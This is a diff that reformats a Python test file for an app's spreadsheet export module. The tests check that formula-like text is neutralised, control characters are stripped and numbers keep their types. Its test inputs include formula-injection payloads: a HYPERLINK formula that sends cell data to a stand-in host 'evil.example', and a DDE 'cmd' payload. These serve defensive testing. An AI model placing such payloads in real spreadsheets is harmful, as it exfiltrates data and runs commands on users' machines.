@@ -1,5 +1,6 @@
 """The one .xlsx writer (core.xlsx): control characters removed, formula-like text stored as text (issue 9,
 findings 5 and 6); numbers, dates and ordinary text unchanged."""
+
 from datetime import date
 from decimal import Decimal
 from io import BytesIO
@@ -8,8 +9,15 @@ from openpyxl import load_workbook
 
 from core.xlsx import xlsx_bytes, xlsx_response
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&B2,"点击")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
-            "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&B2,"点击")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def read(content):
@@ -29,8 +37,9 @@ def test_formula_like_text_is_written_as_quoted_text():
 
 
 def test_illegal_control_characters_are_removed():
-    sheet = read(xlsx_bytes(headers=["name\x00"], rows=[["王\u0007芳\x1b", "tab\tand\nnewline"]],
-                            sheet_title="人员\x07"))
+    sheet = read(
+        xlsx_bytes(headers=["name\x00"], rows=[["王\u0007芳\x1b", "tab\tand\nnewline"]], sheet_title="人员\x07")
+    )
     assert sheet.title == "人员"
     assert sheet["A1"].value == "name"
     assert sheet["A2"].value == "王芳"
@@ -38,7 +47,9 @@ def test_illegal_control_characters_are_removed():
 
 
 def test_numbers_and_dates_stay_what_they_are():
-    sheet = read(xlsx_bytes(headers=["a", "b", "c", "d", "e"], rows=[[-3, -2.5, Decimal("-1.25"), date(2026, 1, 2), None]]))
+    sheet = read(
+        xlsx_bytes(headers=["a", "b", "c", "d", "e"], rows=[[-3, -2.5, Decimal("-1.25"), date(2026, 1, 2), None]])
+    )
     assert sheet["A2"].value == -3 and sheet["A2"].data_type == "n" and not sheet["A2"].quotePrefix
     assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"
     assert sheet["C2"].value == -1.25 and sheet["C2"].data_type == "n"
@@ -59,8 +70,10 @@ def test_every_workbook_the_app_writes_goes_through_core_xlsx():
     root = Path(__file__).resolve().parent.parent.parent
     skip = {".venv", "tests", "staticfiles", "node_modules"}
     writers = [
-        str(path.relative_to(root)) for path in root.rglob("*.py")
-        if not skip & set(path.relative_to(root).parts) and path.relative_to(root).as_posix() != "core/xlsx.py"
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if not skip & set(path.relative_to(root).parts)
+        and path.relative_to(root).as_posix() != "core/xlsx.py"
         and ("Workbook(" in path.read_text(encoding="utf-8") or "WriteOnlyCell" in path.read_text(encoding="utf-8"))
     ]
     assert not writers, writers
